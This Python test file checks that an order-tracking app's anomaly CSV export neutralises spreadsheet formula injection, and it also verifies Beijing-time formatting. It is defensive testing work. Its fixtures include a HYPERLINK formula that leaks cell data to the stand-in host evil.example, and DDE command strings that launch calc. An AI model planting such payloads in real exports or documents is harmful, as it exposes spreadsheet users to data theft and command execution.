"""`anomalies export`: text a shop or a carrier wrote comes out as text, never as a formula a spreadsheet runs."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from sqlalchemy import update

from app.carriers.sandbox.server import SandboxServer
from app.sheets import sheet_cell, sheet_text
from app.store.engine import Store
from app.store.models import Anomaly, Order
from app.tracking import evaluate
from app.tracking.values import AnomalyRow
from app.tracking.views import CSV_COLUMNS, CSV_HEADERS, write_csv
from tests.tracking.support import add_unprinted_order, make_world, sandbox_now

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看物流")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"
PLUS = "+86 138 0000 1111"


def _keyed(text: str, lang: str = "zh") -> list[dict[str, str]]:
    """The rows keyed by column name (the headers are in the UI's language)."""
    names = {header: key for key, header in CSV_HEADERS[lang].items()}
    return [{names[h]: v for h, v in row.items()} for row in csv.DictReader(io.StringIO(text))]


def _read(path: Path) -> list[dict[str, str]]:
    return _keyed(path.read_text(encoding="utf-8-sig"))


def test_formula_text_in_an_export_comes_out_as_text(
    kd: Any, store: Store, sandbox: SandboxServer, tmp_path: Path
) -> None:
    world = make_world(store, sandbox)
    order_id = add_unprinted_order(store, world, paid_at=sandbox_now(sandbox) - timedelta(days=2))
    with store.session() as s:
        s.execute(update(Order).where(Order.id == order_id).values(receiver_name=HYPERLINK))
    assert evaluate(store, sandbox_now(sandbox)).opened_by_kind == {"ship_late": 1}
    with store.session() as s:  # what a carrier's words or a person's note may hold
        s.execute(update(Anomaly).values(detail=AT_SUM, note=MINUS, assignee=PLUS, resolved_by="\t=1+1"))

    out = tmp_path / "anomalies.csv"
    result = kd("anomalies", "--all", "export", "--out", str(out), "--json")
    assert result.status == 0, result.stderr
    assert result.json["exported"] == 1
    (row,) = _read(out)
    assert row["receiver_name"] == "'" + HYPERLINK
    assert row["detail"] == "'" + AT_SUM
    assert row["note"] == "'" + MINUS
    assert row["assignee"] == "'" + PLUS
    assert row["resolved_by"] == "'\t=1+1"
    # the numbers the export writes itself stay numbers; ordinary text stays as it is
    assert row["id"].isdigit() and float(row["age_hours"]) > 0 and row["severity"] == "中"
    assert (row["kind"], row["state"], row["parcel_status"]) == ("超时未发货", "未处理", "")
    for name in CSV_COLUMNS:
        assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), name


def test_a_cell_is_guarded_only_when_it_is_text() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert sheet_text(text) == "'" + text
    for text in ("张三", "13800001111", "a=b", " =1", "'=1", ""):
        assert sheet_text(text) == text
    assert sheet_cell(-2.5) == -2.5 and sheet_cell(-3) == -3 and sheet_cell(None) == ""
    assert sheet_cell(False) is False

    now = datetime(2024, 5, 1, 2, 0, 0)
    row = AnomalyRow(
        id=7, kind="problem", kind_zh="问题件", kind_en="problem", severity=2, state="open", order_id=1,
        order="-100", shipment_id=None, waybill_id=None, waybill="", carrier="YTO", parcel_status="exception",
        receiver_name="=cmd|' /C calc'!A0", receiver_phone_masked="138****1111", since=now, detected_at=now,
        age_hours=-1.5, detail="-2+3", assignee="", note="", acknowledged_at=None, resolved_at=None,
        resolved_by="",
    )  # fmt: skip
    buffer = io.StringIO()
    assert write_csv([row], buffer) == 1
    (written,) = _keyed(buffer.getvalue())
    assert written["age_hours"] == "-1.5"  # a number the export wrote itself
    assert (written["order"], written["detail"]) == ("'-100", "'-2+3")  # text that looks like a number
    assert written["receiver_name"] == "'=cmd|' /C calc'!A0"
    assert written["receiver_phone_masked"] == "138****1111"


def test_one_time_zone_in_the_export_the_notices_and_json() -> None:
    from app.tracking.notices import AnomalyNotice
    from app.tracking.times import china_iso

    at = datetime(2024, 5, 1, 2, 0, 0)  # store time (UTC): 10:00 in Beijing
    row = AnomalyRow(
        id=1, kind="rejected", kind_zh="拒收", kind_en="refused", severity=3, state="resolved", order_id=1,
        order="T1", shipment_id=None, waybill_id=None, waybill="", carrier="YTO", parcel_status="rejected",
        receiver_name="张三", receiver_phone_masked="", since=at, detected_at=at, age_hours=1.0, detail="",
        assignee="", note="", acknowledged_at=at + timedelta(hours=1), resolved_at=at + timedelta(hours=2),
        resolved_by="主管",
    )  # fmt: skip
    for lang in ("zh", "en"):
        buffer = io.StringIO()
        write_csv([row], buffer, lang)
        (written,) = _keyed(buffer.getvalue(), lang)
        assert (written["since"], written["acknowledged_at"], written["resolved_at"]) == (
            "2024-05-01 10:00", "2024-05-01 11:00", "2024-05-01 12:00",
        )  # fmt: skip
        assert "（北京时间）" in CSV_HEADERS["zh"]["since"] and "Beijing time" in CSV_HEADERS["en"]["since"]
    notice = AnomalyNotice(1, "rejected", 3, "YT1", "YTO", "T1", "张三", "", at, "")
    assert "开始于 2024-05-01 10:00（北京时间）" in notice.text() and "UTC" not in notice.text()
    assert china_iso(at) == "2024-05-01 10:00:00+08:00"
